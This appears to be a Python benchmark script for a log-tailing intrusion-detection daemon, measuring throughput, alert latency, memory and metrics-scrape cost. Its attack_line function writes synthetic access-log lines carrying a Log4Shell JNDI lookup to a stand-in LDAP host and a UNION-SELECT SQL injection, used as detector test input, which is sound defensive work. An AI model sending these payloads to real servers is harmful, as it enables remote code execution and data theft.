#!/usr/bin/env python3
"""Measures `canhgac run` as it tails files: throughput, latency, memory. Driven by daemon.sh;
see benches/README.md for what each phase does and how to read its figures.

Every phase starts its own daemon (`canhgac run --config <work>/<phase>/canhgac.toml`) with a
fresh state directory and empty log files in <work>/<phase>/, binds a datagram socket and passes
it as NOTIFY_SOCKET (the daemon sends READY=1 there, then STATUS= every 5 s), waits for READY,
and then appends to the files the daemon tails. Progress is read from the daemon's own database,
read-only, the way any reporting tool would: `checkpoints.byte_offset` per input (the offset up
to which lines have been committed, with their incidents) and `meta.last_commit_us` (the wall
clock as the last Store::commit began: store.rs takes it with Timestamp::now() before BEGIN
IMMEDIATE and the fsync, but after daemon.rs has taken and serialised the detector snapshot).
The incidents' `created_us` is that same commit time. Both sides use the wall clock of the same
machine (CLOCK_REALTIME: Python's time.time_ns(), Rust's SystemTime), so differences between
them are honest to a few microseconds.

Python 3 standard library only. Progress goes to stderr, figures to stdout, raw numbers to
<results>/daemon.json.
"""

import argparse
import ctypes
import datetime as dt
import http.client
import json
import os
import random
import re
import shutil
import signal
import socket
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import threading
import time

CLK_TCK = os.sysconf("SC_CLK_TCK")
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
RE_CLF_STAMP = re.compile(r"\[(\d\d/[A-Z][a-z]{2}/\d{4}:\d\d:\d\d:\d\d) [+-]\d{4}\]")
RE_ANSI = re.compile(r"\x1b\[[0-9;]*m")
PUSH_VERSION = 1  # bump when the push corpus for the same parameters changes
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0 Safari/537.36"


def log(msg):
    print(f"daemon_bench: {msg}", file=sys.stderr, flush=True)


def now_us():
    return time.time_ns() // 1000


def loadavg():
    with open("/proc/loadavg") as f:
        return " ".join(f.read().split()[:3])


def clf_stamp(t):
    d = dt.datetime.fromtimestamp(t, dt.timezone.utc)
    return "%02d/%s/%04d:%02d:%02d:%02d +0000" % (d.day, MONTHS[d.month - 1], d.year, d.hour, d.minute, d.second)


def syslog_stamp(t):
    d = dt.datetime.fromtimestamp(t, dt.timezone.utc)
    return "%s %2d %02d:%02d:%02d" % (MONTHS[d.month - 1], d.day, d.hour, d.minute, d.second)


def pct(values, p):
    """Nearest-rank percentile (p in 0..100) of a non-empty list."""
    s = sorted(values)
    k = max(0, min(len(s) - 1, int(round(p / 100 * len(s) + 0.5)) - 1))
    return s[k]


# ------------------------------------------------------------------------------------ daemon

class Daemon:
    """One `canhgac run` with its own config, state directory and NOTIFY_SOCKET."""

    def __init__(self, bin_path, workdir, inputs, pidfile, pipeline=None):
        self.bin, self.dir, self.pidfile = bin_path, workdir, pidfile
        shutil.rmtree(workdir, ignore_errors=True)
        os.makedirs(os.path.join(workdir, "logs"))
        self.logs = {}
        lines = ['agency = "bench"', 'time_zone = "UTC"', f'state_dir = {json.dumps(os.path.join(workdir, "state"))}',
                 "", "[http]", 'listen = "127.0.0.1:0"']
        if pipeline:
            lines += ["", "[pipeline]"] + [f"{k} = {json.dumps(v)}" for k, v in pipeline.items()]
        for name, typ in inputs:
            path = os.path.join(workdir, "logs", name + ".log")
            open(path, "wb").close()  # exists before the start: read from its first byte
            self.logs[name] = path
            lines += ["", "[[input]]", f"name = {json.dumps(name)}", f"path = {json.dumps(path)}",
                      f"type = {json.dumps(typ)}", 'start = "beginning"']
        self.config = os.path.join(workdir, "canhgac.toml")
        with open(self.config, "w") as f:
            f.write("\n".join(lines) + "\n")
        self.db_path = os.path.join(workdir, "state", "canhgac.db")
        self.proc = None
        self.sockdir = None
        self.ready_at = None
        self.statuses = []  # (time, STATUS text)
        self.db = None

    def start(self, timeout=60):
        # A short path: sun_path holds 108 bytes.
        self.sockdir = tempfile.mkdtemp(prefix="cgbench-")
        sock_path = os.path.join(self.sockdir, "notify")
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        self.sock.bind(sock_path)
        self.sock.settimeout(0.2)
        env = dict(os.environ, NOTIFY_SOCKET=sock_path)
        env.pop("WATCHDOG_USEC", None)
        env.pop("WATCHDOG_PID", None)
        env.pop("JOURNAL_STREAM", None)
        self.stderr = open(os.path.join(self.dir, "daemon.err"), "wb")
        self.proc = subprocess.Popen([self.bin, "run", "--config", self.config], stdin=subprocess.DEVNULL,
                                     stdout=self.stderr, stderr=self.stderr, env=env, preexec_fn=_die_with_parent)
        with open(self.pidfile, "w") as f:
            f.write(f"{self.proc.pid}\n")
        self._stop_listen = False
        self._ready = threading.Event()
        self.listener = threading.Thread(target=self._listen, daemon=True)
        self.listener.start()
        deadline = time.time() + timeout
        while not self._ready.wait(0.1):
            if self.proc.poll() is not None:
                raise SystemExit(f"canhgac run exited with status {self.proc.returncode} before READY; "
                                 f"see {self.stderr.name}:\n{self.tail_err()}")
            if time.time() > deadline:
                raise SystemExit(f"canhgac run sent no READY=1 within {timeout} s; see {self.stderr.name}")
        self.db = sqlite3.connect(f"file:{self.db_path}?mode=ro", uri=True, isolation_level=None,
                                  check_same_thread=False)
        self.db_lock = threading.Lock()
        self.cpu0 = self.cpu()

    def _listen(self):
        while not self._stop_listen:
            try:
                data = self.sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                return
            t = time.time()
            for kv in data.decode("utf-8", "replace").split("\n"):
                if kv == "READY=1":
                    self.ready_at = t
                    self._ready.set()
                elif kv.startswith("STATUS="):
                    self.statuses.append((t, kv[7:]))

    def tail_err(self, n=15):
        try:
            with open(self.stderr.name, "rb") as f:
                text = RE_ANSI.sub("", f.read().decode("utf-8", "replace"))
            return "\n".join(text.splitlines()[-n:])
        except OSError:
            return ""

    def alive(self):
        return self.proc is not None and self.proc.poll() is None

    def check_alive(self):
        if not self.alive():
            raise SystemExit(f"canhgac run died (status {self.proc.returncode}); last lines of "
                             f"{self.stderr.name}:\n{self.tail_err()}")

    def cpu(self):
        """User + system CPU seconds of the whole process (all threads)."""
        with open(f"/proc/{self.proc.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / CLK_TCK

    def sched(self, thread="pipeline"):
        """(seconds on a CPU, seconds runnable but waiting for one) of the named thread, from
        /proc/PID/task/TID/schedstat; None if unavailable."""
        base = f"/proc/{self.proc.pid}/task"
        try:
            for tid in os.listdir(base):
                with open(f"{base}/{tid}/comm") as f:
                    if f.read().strip() != thread:
                        continue
                with open(f"{base}/{tid}/schedstat") as f:
                    run, wait, _ = f.read().split()
                return int(run) / 1e9, int(wait) / 1e9
        except (OSError, ValueError):
            pass
        return None

    def io_written(self):
        """Bytes the process caused to be written to storage (/proc/PID/io write_bytes), or None."""
        try:
            with open(f"/proc/{self.proc.pid}/io") as f:
                for line in f:
                    if line.startswith("write_bytes:"):
                        return int(line.split()[1])
        except OSError:
            pass
        return None

    def smaps(self):
        """{field: KB} of /proc/PID/smaps_rollup (Rss, Anonymous, Shared_*, ...), {} if absent."""
        out = {}
        try:
            with open(f"/proc/{self.proc.pid}/smaps_rollup") as f:
                for line in f:
                    parts = line.split()
                    if len(parts) == 3 and parts[2] == "kB":
                        out[parts[0].rstrip(":")] = int(parts[1])
        except OSError:
            pass
        return out

    def mem(self):
        """(VmRSS, VmHWM) in KB."""
        rss = hwm = 0
        with open(f"/proc/{self.proc.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    rss = int(line.split()[1])
                elif line.startswith("VmHWM:"):
                    hwm = int(line.split()[1])
        return rss, hwm

    def query(self, sql, args=()):
        with self.db_lock:
            return self.db.execute(sql, args).fetchall()

    def progress(self):
        """({input: committed byte offset}, commits, last_commit_us), read in one transaction."""
        with self.db_lock:
            cur = self.db.cursor()
            cur.execute("BEGIN")
            try:
                offs = dict(cur.execute("SELECT input, SUM(byte_offset) FROM checkpoints GROUP BY input").fetchall())
                commits, last = cur.execute("SELECT commits, last_commit_us FROM meta WHERE id = 1").fetchone()
            finally:
                cur.execute("COMMIT")
        return offs, commits, last

    def status_field(self, pattern):
        """The last number matching pattern in the last STATUS, or None."""
        if not self.statuses:
            return None
        m = re.search(pattern, self.statuses[-1][1])
        return int(m.group(1)) if m else None

    def stop(self, timeout=30):
        if self.db is not None:
            try:
                self.db.close()
            except sqlite3.Error:
                pass
            self.db = None
        if self.alive():
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout)
            except subprocess.TimeoutExpired:
                log(f"canhgac run (pid {self.proc.pid}) ignored SIGTERM for {timeout} s: SIGKILL")
                self.proc.kill()
                self.proc.wait()
        self._stop_listen = True
        if self.sockdir:
            try:
                self.sock.close()
            except OSError:
                pass
            shutil.rmtree(self.sockdir, ignore_errors=True)
            self.sockdir = None
        try:
            os.unlink(self.pidfile)
        except OSError:
            pass

    def stopped_lines(self):
        """lines=N from the daemon's `stopped` log line (after stop())."""
        m = None
        for m in re.finditer(r"stopped.*?lines=(\d+)", self.tail_err(50)):
            pass
        return int(m.group(1)) if m else None


def _die_with_parent():
    # If this script is killed outright, the kernel sends the daemon SIGTERM (Linux).
    try:
        ctypes.CDLL(None, use_errno=True).prctl(1, signal.SIGTERM)  # PR_SET_PDEATHSIG
    except Exception:
        pass


ACTIVE = []  # daemons to stop on the way out


def stop_all():
    while ACTIVE:
        d = ACTIVE.pop()
        try:
            d.stop(timeout=10)
        except Exception as e:  # keep stopping the others
            log(f"stopping a daemon: {e}")


def start_daemon(args, phase, inputs, pipeline=None):
    d = Daemon(args.bin, os.path.join(args.work, phase), inputs, args.pidfile, pipeline)
    ACTIVE.append(d)
    d.start()
    return d


def finish_daemon(d):
    d.stop()
    if d in ACTIVE:
        ACTIVE.remove(d)


def wait_caught_up(d, sizes, timeout, every=0.02, on_poll=None):
    """Polls until every input's committed offset equals its file size. Returns (time seen,
    last_commit_us of the commit that got there, commits)."""
    deadline = time.time() + timeout
    while True:
        d.check_alive()
        offs, commits, last = d.progress()
        if all(offs.get(name, 0) >= size for name, size in sizes.items()):
            return time.time(), last, commits
        if on_poll:
            on_poll(offs)
        if time.time() > deadline:
            behind = sum(size - offs.get(name, 0) for name, size in sizes.items())
            raise TimeoutError(f"daemon still {behind} bytes behind after {timeout} s")
        time.sleep(every)


def copy_interleaved(pairs, chunk=1 << 20):
    """Appends each source file to its destination, as fast as possible, in line-aligned chunks
    of about `chunk` bytes, interleaving the files so all of them grow at a rate proportional to
    their size (as one busy host's logs would). pairs: [(src, dst)]. Returns bytes written."""
    sizes = [os.path.getsize(s) for s, _ in pairs]
    biggest = max(sizes)
    srcs = [open(s, "rb") for s, _ in pairs]
    dsts = [os.open(d, os.O_WRONLY | os.O_APPEND) for _, d in pairs]
    done = [0] * len(pairs)
    total = 0
    try:
        step = 0
        while any(done[i] < sizes[i] for i in range(len(pairs))):
            step += 1
            for i, (f, fd) in enumerate(zip(srcs, dsts)):
                want = sizes[i] * step * chunk // biggest  # proportional target for this step
                n = want - done[i]
                if n <= 0 or done[i] >= sizes[i]:
                    continue
                data = f.read(n)
                if not data:  # shorter than it was: nothing more to copy
                    done[i] = sizes[i]
                    continue
                if not data.endswith(b"\n"):
                    data += f.readline()
                while data:
                    w = os.write(fd, data)
                    data = data[w:]
                    done[i] += w
                    total += w
    finally:
        for f in srcs:
            f.close()
        for fd in dsts:
            os.close(fd)
    return total


def run_scan(args, files):
    """canhgac scan over files (types recognised per file), stdout discarded. Returns wall s,
    CPU s, peak RSS KB, its summary line."""
    for p in files:
        with open(p, "rb") as f:
            while f.read(1 << 24):
                pass
    err = os.path.join(args.results, "scan.err")
    with open(err, "wb") as e:
        t0 = time.time()
        p = subprocess.Popen([args.bin, "scan", *files], stdout=subprocess.DEVNULL, stderr=e)
        _, status, ru = os.wait4(p.pid, 0)
        wall = time.time() - t0
        p.returncode = os.waitstatus_to_exitcode(status)
    with open(err) as e:
        text = e.read()
    if p.returncode != 0:
        raise SystemExit(f"canhgac scan exited with status {p.returncode}:\n{text[-2000:]}")
    summary = [l for l in text.splitlines() if l.startswith("canhgac: ")]
    return wall, ru.ru_utime + ru.ru_stime, ru.ru_maxrss, (summary[-1] if summary else "")


# ------------------------------------------------------------------------------ throughput

def phase_throughput(args, out):
    with open(os.path.join(args.corpus, "corpus.json")) as f:
        manifest = json.load(f)
    names = [("auth", "syslog", "auth.log"), ("web", "apache", "access.log")]
    src = {n: os.path.join(args.corpus, fn) for n, _, fn in names}
    sizes = {n: os.path.getsize(p) for n, p in src.items()}
    nbytes = sum(sizes.values())
    nlines = sum(manifest["files"][fn]["lines"] for _, _, fn in names)
    runs = []
    for r in range(args.runs):
        log(f"throughput run {r + 1}/{args.runs}: daemon (load average {loadavg()})")
        for p in src.values():  # page cache warm, as for scan
            with open(p, "rb") as f:
                while f.read(1 << 24):
                    pass
        d = start_daemon(args, "throughput", [(n, t) for n, t, _ in names])
        la = loadavg()
        t0 = time.time()
        cpu0 = d.cpu()
        sched0 = d.sched()
        io0 = d.io_written()
        written = {}
        writer = threading.Thread(target=lambda: written.update(
            n=copy_interleaved([(src[n], d.logs[n]) for n, _, _ in names]), t=time.time()))
        writer.start()
        seen, last_us, commits = wait_caught_up(d, sizes, args.catchup_timeout)
        writer.join()
        cpu = d.cpu() - cpu0
        sched1 = d.sched()
        io1 = d.io_written()
        rss, hwm = d.mem()
        blob = d.query("SELECT length(state) FROM detector_state")[0][0]
        incidents = d.query("SELECT count(*) FROM incidents")[0][0]
        finish_daemon(d)
        lines_read = d.stopped_lines()
        wall = last_us / 1e6 - t0
        on_cpu = runq = None
        if sched0 and sched1:
            on_cpu, runq = sched1[0] - sched0[0], sched1[1] - sched0[1]
        runs.append({"kind": "daemon", "wall": wall, "wall_seen": seen - t0, "cpu": cpu,
                     "pipeline_on_cpu": on_cpu, "pipeline_runq": runq,
                     "io_write_bytes": io1 - io0 if io0 is not None and io1 is not None else None,
                     "writer_s": written["t"] - t0, "commits": commits, "hwm_kb": hwm,
                     "state_bytes": blob, "incidents": incidents, "lines_read": lines_read, "load": la})
        log(f"  daemon: {wall:.3f} s wall, {cpu:.2f} s CPU, {commits} commits, writer done after "
            f"{written['t'] - t0:.3f} s, VmHWM {hwm / 1024:.1f} MB")
        log(f"throughput run {r + 1}/{args.runs}: scan (load average {loadavg()})")
        la = loadavg()
        wall, cpu, maxrss, summary = run_scan(args, list(src.values()))
        runs.append({"kind": "scan", "wall": wall, "cpu": cpu, "hwm_kb": maxrss, "summary": summary, "load": la})
        log(f"  scan: {wall:.3f} s wall, {cpu:.2f} s CPU")
    out["throughput"] = {"bytes": nbytes, "lines": nlines, "runs": runs}

    dm = [x for x in runs if x["kind"] == "daemon"]
    sc = [x for x in runs if x["kind"] == "scan"]
    bd, bs = min(dm, key=lambda x: x["wall"]), min(sc, key=lambda x: x["wall"])
    cd, cs = min(x["cpu"] for x in dm), min(x["cpu"] for x in sc)
    print(f"1. Throughput while tailing: {nbytes / 1e6:.1f} MB, {nlines:,} lines "
          f"(auth.log as syslog + access.log as apache), best of {args.runs}")
    print()
    fmt = "  {:<36} {:>7} {:>7} {:>9} {:>6} {:>12} {:>9}"
    print(fmt.format("", "wall s", "MB/s", "lines/s", "CPU s", "lines/CPU-s", "VmHWM MB"))
    for label, b, c in (("canhgac run (tailing, to committed)", bd, cd), ("canhgac scan (same bytes)", bs, cs)):
        print(fmt.format(label, f"{b['wall']:.3f}", f"{nbytes / 1e6 / b['wall']:.1f}", f"{nlines / b['wall']:,.0f}",
                         f"{c:.2f}", f"{nlines / c:,.0f}", f"{b['hwm_kb'] / 1024:.1f}"))
    print()
    print(f"  daemon / scan: {bs['wall'] / bd['wall']:.2f} x by wall clock, {cs / cd:.2f} x by CPU time "
          f"(> 1: the daemon is faster)")
    print(f"  daemon, best run: writer done after {bd['writer_s']:.3f} s; caught up (last commit) at {bd['wall']:.3f} s, "
          f"seen by the poller at {bd['wall_seen']:.3f} s; {bd['commits']} commits "
          f"({nlines / max(bd['commits'], 1):,.0f} lines each, {bd['commits'] / bd['wall']:.1f}/s); "
          f"{bd['incidents']} incidents; detector state {bd['state_bytes'] / 1e3:.1f} kB per commit"
          + (f"; {bd['io_write_bytes'] / 1e6:.1f} MB written to storage" if bd["io_write_bytes"] is not None else ""))
    if bd["lines_read"] is not None and bd["lines_read"] != nlines:
        print(f"  WARNING: the daemon says it read {bd['lines_read']:,} lines, the corpus has {nlines:,}")
    if bd["pipeline_on_cpu"] is not None:
        seen_s = bd["wall_seen"]
        print(f"  daemon's pipeline thread, best run, from the first write to caught up ({seen_s:.3f} s): "
              f"{bd['pipeline_on_cpu']:.3f} s on a CPU, {bd['pipeline_runq']:.3f} s runnable but waiting for a CPU "
              f"(machine load), {max(0.0, seen_s - bd['pipeline_on_cpu'] - bd['pipeline_runq']):.3f} s blocked "
              f"(fsync, waiting for data)")
    print(f"  scan says: {bs['summary']}")
    print(f"  load average at the start of the best runs: daemon {bd['load']}, scan {bs['load']}")
    print()


# ---------------------------------------------------------------------------------- latency

def benign_templates(args, limit=20000):
    """(prefix, suffix) around the time stamp of access.log lines that no rule matches."""
    path = os.path.join(args.corpus, "access.log")
    sample = os.path.join(args.results, "benign-sample.log")
    with open(path, "rb") as f, open(sample, "wb") as o:
        for i, line in enumerate(f):
            if i >= limit:
                break
            o.write(line)
    ev = subprocess.run([args.bin, "scan", "--events", "--type", "apache", sample],
                        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, check=True).stdout
    hit = {json.loads(l)["line"] for l in ev.decode().splitlines() if l.strip()}
    out = []
    with open(sample, encoding="latin-1") as f:
        for n, line in enumerate(f, 1):
            m = RE_CLF_STAMP.search(line)
            if n in hit or not m:
                continue
            out.append((line[:m.start()] + "[", "]" + line[m.end():]))
    if not out:
        raise SystemExit("no benign access.log lines found for background load")
    return out


class IpCounter:
    """Fresh addresses from 198.19.0.0/16 (RFC 2544 benchmarking space; the push corpus's web
    attackers use 198.18.0.0/16), never reused by one daemon."""

    def __init__(self):
        self.n = 0

    def next(self):
        self.n += 1
        if self.n > 65534:
            raise SystemExit("out of fresh addresses for latency lines (at most 65534 per daemon)")
        return f"198.19.{self.n >> 8}.{self.n & 255}"


def attack_line(ip, i, t):
    stamp = clf_stamp(t)
    if i % 2 == 0:
        return (f'{ip} - - [{stamp}] "GET /?x=${{jndi:ldap://198.51.100.9:1389/a{i}}} HTTP/1.1" '
                f'200 512 "-" "{UA}"\n')
    return (f'{ip} - - [{stamp}] "GET /news.php?id=-{i}+UNION+ALL+SELECT+1,2,concat(user(),0x3a,version()),4-- '
            f'HTTP/1.1" 200 512 "-" "{UA}"\n')


class BackgroundLoad(threading.Thread):
    """Appends benign access lines (time stamped now) at about `mbps` MB/s, every 10 ms."""

    def __init__(self, path, templates, mbps):
        super().__init__(daemon=True)
        self.path, self.templates, self.rate = path, templates, mbps * 1e6
        self.stop_flag = threading.Event()
        self.bytes = 0
        self.t0 = self.t1 = None

    def run(self):
        fd = os.open(self.path, os.O_WRONLY | os.O_APPEND)
        k = 0
        self.t0 = time.time()
        try:
            while not self.stop_flag.is_set():
                due = self.rate * (time.time() - self.t0) - self.bytes
                if due > 0:
                    stamp = clf_stamp(time.time())
                    parts, n = [], 0
                    while n < due:
                        pre, post = self.templates[k % len(self.templates)]
                        k += 1
                        line = pre + stamp + post
                        parts.append(line)
                        n += len(line)
                    data = "".join(parts).encode("latin-1")
                    while data:
                        w = os.write(fd, data)
                        data = data[w:]
                    self.bytes += n
                time.sleep(0.01)
        finally:
            self.t1 = time.time()
            os.close(fd)


def latency_series(d, fd, ips, n, spacing, label, timeout=5.0, line_time=None):
    """Appends n attack lines, each from a fresh address, `spacing` s apart. For each: write
    time (just before write(2)), the incident's created_us, and when a reader first saw it.
    The lines carry the time `line_time` (default: now)."""
    rows = []
    missed = 0
    for i in range(n):
        d.check_alive()
        ip = ips.next()
        line = attack_line(ip, ips.n, line_time or time.time()).encode()
        t_w = now_us()
        os.write(fd, line)
        seen = created = None
        deadline = time.time() + timeout
        while time.time() < deadline:
            r = d.query("SELECT MIN(created_us) FROM incidents WHERE src_ip = ?", (ip,))[0][0]
            if r is not None:
                seen, created = now_us(), r
                break
            time.sleep(0.001)
        if created is None:
            missed += 1
        else:
            rows.append((t_w, created, seen))
        pause = t_w / 1e6 + spacing - time.time()
        if pause > 0:
            time.sleep(pause)
    if missed:
        log(f"  {label}: {missed} of {n} lines had no incident within {timeout} s")
    return rows, missed


def summarize_latency(rows):
    commit = [(c - w) / 1000 for w, c, _ in rows]
    seen = [(s - w) / 1000 for w, _, s in rows]
    return {"n": len(rows), "commit_ms": commit, "seen_ms": seen,
            "commit_median": statistics.median(commit), "commit_p99": pct(commit, 99), "commit_max": max(commit),
            "seen_median": statistics.median(seen), "seen_p99": pct(seen, 99), "seen_max": max(seen)}


def phase_latency(args, out):
    templates = benign_templates(args)
    d = start_daemon(args, "latency", [("auth", "syslog"), ("web", "apache")])
    ips = IpCounter()
    fd = os.open(d.logs["web"], os.O_WRONLY | os.O_APPEND)
    res = {}
    try:
        time.sleep(0.5)
        # A few lines first, so first-time costs (page faults, statement preparation) stay out.
        latency_series(d, fd, ips, 5, args.lat_spacing, "warm-up")
        la = loadavg()
        log(f"latency, idle: {args.lat_lines} lines {args.lat_spacing * 1000:.0f} ms apart (load average {la})")
        rows, missed = latency_series(d, fd, ips, args.lat_lines, args.lat_spacing, "idle")
        res["idle"] = dict(summarize_latency(rows), missed=missed, load=la)
        bg = BackgroundLoad(d.logs["web"], templates, args.load_mbps)
        bg.start()
        time.sleep(1.0)
        la = loadavg()
        log(f"latency, under {args.load_mbps} MB/s of benign lines: {args.lat_lines} lines (load average {la})")
        cpu0, t0 = d.cpu(), time.time()
        rows, missed = latency_series(d, fd, ips, args.lat_lines, args.lat_spacing, "loaded")
        cpu = d.cpu() - cpu0
        el = time.time() - t0
        bg.stop_flag.set()
        bg.join()
        time.sleep(0.5)  # the last chunk's read and commit
        size = os.path.getsize(d.logs["web"])
        offs, commits, _ = d.progress()
        rate = bg.bytes / (bg.t1 - bg.t0) / 1e6
        res["loaded"] = dict(summarize_latency(rows), missed=missed, load=la, load_mbps=rate,
                             daemon_cpu_share=cpu / el, behind_at_end=size - offs.get("web", 0))
    finally:
        os.close(fd)
        finish_daemon(d)
    out["latency"] = res
    print(f"2. Latency: a log4shell/SQLi line from a fresh address appended to the tailed access.log, "
          f"to its incident; every line counts")
    print(f"   {args.lat_lines} lines, {args.lat_spacing * 1000:.0f} ms apart; times in ms. 'committed' = incidents.created_us "
          f"(wall clock as the store's transaction begins: after the detector snapshot is serialised, before the fsync) "
          f"- time of write(2);")
    print(f"   'visible' = when a read-only reader polling every 1 ms first saw the incident - time of write(2). "
          f"Same machine, same wall clock (CLOCK_REALTIME).")
    print()
    fmt = "  {:<34} {:>11} {:>7} {:>7} {:>12} {:>7} {:>7}"
    print(fmt.format("", "commit 50%", "99%", "max", "visible 50%", "99%", "max"))
    for key, label in (("idle", "idle"), ("loaded", f"under ~{args.load_mbps:g} MB/s of benign lines")):
        r = res[key]
        print(fmt.format(label, f"{r['commit_median']:.1f}", f"{r['commit_p99']:.1f}", f"{r['commit_max']:.1f}",
                         f"{r['seen_median']:.1f}", f"{r['seen_p99']:.1f}", f"{r['seen_max']:.1f}"))
    lo = res["loaded"]
    print()
    print(f"  background load: {lo['load_mbps']:.2f} MB/s written; daemon used {lo['daemon_cpu_share'] * 100:.0f} % of a CPU; "
          f"{lo['behind_at_end']} bytes uncommitted 0.5 s after the load stopped")
    missed = res["idle"]["missed"] + lo["missed"]
    if missed:
        print(f"  WARNING: {missed} lines got no incident within 5 s (left out of the figures)")
    print(f"  load average at the start: idle {res['idle']['load']}, loaded {lo['load']}")
    print()


# ----------------------------------------------------------------------------------- scrape

def http_port(d, timeout=30):
    """The port the daemon serves HTTP on, from its `serving ... on http://ADDR` log line."""
    deadline = time.time() + timeout
    while time.time() < deadline:
        m = re.search(r"serving /metrics.* on https?://[0-9.]+:(\d+)", d.tail_err(200))
        if m:
            return int(m.group(1))
        time.sleep(0.05)
    raise SystemExit(f"the daemon logged no HTTP address within {timeout} s; see {d.stderr.name}")


def scrape(port):
    """One GET /metrics as Prometheus makes it. Returns (seconds, body bytes)."""
    t0 = time.perf_counter()
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.request("GET", "/metrics", headers={"Accept": "text/plain;version=0.0.4"})
        r = conn.getresponse()
        body = r.read()
        if r.status != 200:
            raise SystemExit(f"/metrics answered {r.status}")
    finally:
        conn.close()
    return time.perf_counter() - t0, body


class Scraper(threading.Thread):
    """Scrapes /metrics every `interval` seconds until stopped, as Prometheus would."""

    def __init__(self, port, interval):
        super().__init__(daemon=True)
        self.port, self.interval, self.times = port, interval, []
        self.stop_flag = threading.Event()

    def run(self):
        while not self.stop_flag.is_set():
            t, _ = scrape(self.port)
            self.times.append(t)
            self.stop_flag.wait(self.interval)


def year_of_attacks(path, n, now):
    """n web attacks from n distinct addresses (100.64.0.0/10), evenly spread over the 365 days
    before `now`, in time order: n incidents a year."""
    span = 365 * 86400
    with open(path, "w") as f:
        for i in range(n):
            ip = f"100.{64 + (i >> 16)}.{(i >> 8) & 255}.{i & 255}"
            f.write(attack_line(ip, i, now - span + span * i // n))
    return os.path.getsize(path)


def phase_scrape(args, out):
    """Scrape size and time with a year of incidents in the store and the full default rules,
    and the pipeline's throughput with Prometheus-like scrapes against without."""
    d = start_daemon(args, "scrape", [("web", "apache"), ("auth", "syslog")])
    port = http_port(d)
    year = os.path.join(args.results, "year.log")
    size = year_of_attacks(year, args.year_incidents, time.time() - 60)
    log(f"scrape: loading a year of incidents ({args.year_incidents:,} lines, {size / 1e6:.1f} MB)")
    t0 = time.time()
    with open(year, "rb") as src, open(d.logs["web"], "ab") as dst:
        shutil.copyfileobj(src, dst, 1 << 20)
    wait_caught_up(d, {"web": size, "auth": 0}, args.catchup_timeout)
    load_s = time.time() - t0
    incidents = d.query("SELECT count(*) FROM incidents")[0][0]
    db_bytes = os.path.getsize(d.db_path)
    _, body = scrape(port)
    text = body.decode()
    samples = sum(1 for l in text.splitlines() if l and not l.startswith("#"))
    families = sum(1 for l in text.splitlines() if l.startswith("# TYPE "))

    # Warm: nothing committed between scrapes, the monthly figures come from the cache.
    warm, cpu0 = [], d.cpu()
    for _ in range(args.scrapes):
        warm.append(scrape(port)[0])
    warm_cpu = (d.cpu() - cpu0) / args.scrapes
    # Cold: a commit before each scrape, so the monthly figures are counted in the store again
    # (what every scrape costs while the pipeline is busy).
    cold, cold_cpu = [], []
    ips = IpCounter()
    for i in range(args.cold_scrapes):
        _, commits, _ = d.progress()
        with open(d.logs["web"], "a") as f:
            f.write(attack_line(ips.next(), i, time.time()))
        while d.progress()[1] == commits:
            d.check_alive()
            time.sleep(0.01)
        time.sleep(0.05)  # let the pipeline go quiet so its CPU is not counted below
        c0 = d.cpu()
        cold.append(scrape(port)[0])
        cold_cpu.append(d.cpu() - c0)
    out["scrape"] = {"incidents": incidents, "db_bytes": db_bytes, "load_s": load_s, "bytes": len(body),
                     "samples": samples, "families": families, "warm_s": warm, "warm_cpu_s": warm_cpu,
                     "cold_s": cold, "cold_cpu_s": cold_cpu}
    print(f"4. Scrapes with a year of incidents in the store ({incidents:,} incidents, database "
          f"{db_bytes / 1e6:.1f} MB, loaded through the daemon in {load_s:.1f} s) and the full default rules")
    print()
    print(f"  page: {len(body):,} bytes, {samples} samples in {families} families")
    fmt = "  {:<52} {:>9} {:>9} {:>9} {:>13}"
    print(fmt.format("", "median ms", "p99 ms", "max ms", "daemon CPU ms"))
    print(fmt.format(f"cached monthly figures ({args.scrapes} scrapes)", f"{pct(warm, 50) * 1e3:.2f}",
                     f"{pct(warm, 99) * 1e3:.2f}", f"{max(warm) * 1e3:.2f}", f"{warm_cpu * 1e3:.2f}"))
    print(fmt.format(f"after a commit: counted in the store ({args.cold_scrapes} scrapes)",
                     f"{pct(cold, 50) * 1e3:.2f}", f"{pct(cold, 99) * 1e3:.2f}", f"{max(cold) * 1e3:.2f}",
                     f"{statistics.median(cold_cpu) * 1e3:.2f}"))
    per_15s = statistics.median(cold_cpu) / 15
    print(f"  worst case at the center's 15 s interval (every scrape after a commit): "
          f"{per_15s * 100:.3f} % of one CPU")
    print()

    # Throughput: the bench corpus pushed into the same daemon (year still in its store), with
    # no scrapes and with scrapes every SCRAPE_INTERVAL s, alternating.
    with open(os.path.join(args.corpus, "corpus.json")) as f:
        manifest = json.load(f)
    src = {"auth": os.path.join(args.corpus, "auth.log"), "web": os.path.join(args.corpus, "access.log")}
    nbytes = sum(os.path.getsize(p) for p in src.values())
    nlines = manifest["files"]["auth.log"]["lines"] + manifest["files"]["access.log"]["lines"]
    runs = {0: [], args.scrape_interval: []}
    for r in range(args.runs):
        for interval in (0, args.scrape_interval):
            sizes = {n: os.path.getsize(d.logs[n]) + os.path.getsize(p) for n, p in src.items()}
            scraper = Scraper(port, interval) if interval else None
            cpu0, t0 = d.cpu(), time.time()
            if scraper:
                scraper.start()
            copy_interleaved([(src[n], d.logs[n]) for n in src])
            _, last_us, _ = wait_caught_up(d, sizes, args.catchup_timeout)
            wall, cpu = last_us / 1e6 - t0, d.cpu() - cpu0
            n_scrapes = 0
            if scraper:
                scraper.stop_flag.set()
                scraper.join()
                n_scrapes = len(scraper.times)
            runs[interval].append({"wall": wall, "cpu": cpu, "scrapes": n_scrapes})
            log(f"  run {r + 1}, scrapes every {interval or '-'} s: {wall:.3f} s wall, {cpu:.2f} s CPU, "
                f"{n_scrapes} scrapes")
    finish_daemon(d)
